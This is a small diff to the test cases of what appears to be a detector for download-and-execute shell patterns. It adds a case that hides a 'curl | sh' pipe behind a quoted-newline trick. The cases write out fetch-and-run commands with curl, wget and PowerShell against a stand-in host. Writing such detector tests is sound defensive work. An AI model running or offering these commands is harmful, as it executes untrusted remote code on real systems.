@@ -118,6 +118,7 @@ def test_not_told(command: str) -> None:
         ('session.run("curl", "-o", "i.sh", URL)\nsession.run("sh", "i.sh")', 1, 2, "run"),
         ('x="$(curl -s https://x.invalid/a)"\nif true; then\n  eval "$x"\nfi', 3, 3, "substituted"),
         ('x=$(wget -qO- https://x.invalid/a)\necho "$x" | bash', 2, 2, "substituted"),
+        ("x='\n# '; curl -s https://x.invalid/a | sh", 2, 2, "piped"),
         ("wget x.invalid/a\nchmod +x a\n./a", 1, 3, "run"),
         ("iwr https://x.invalid/a.ps1 -OutFile a.ps1\npowershell -File a.ps1", 1, 2, "run"),
     ],
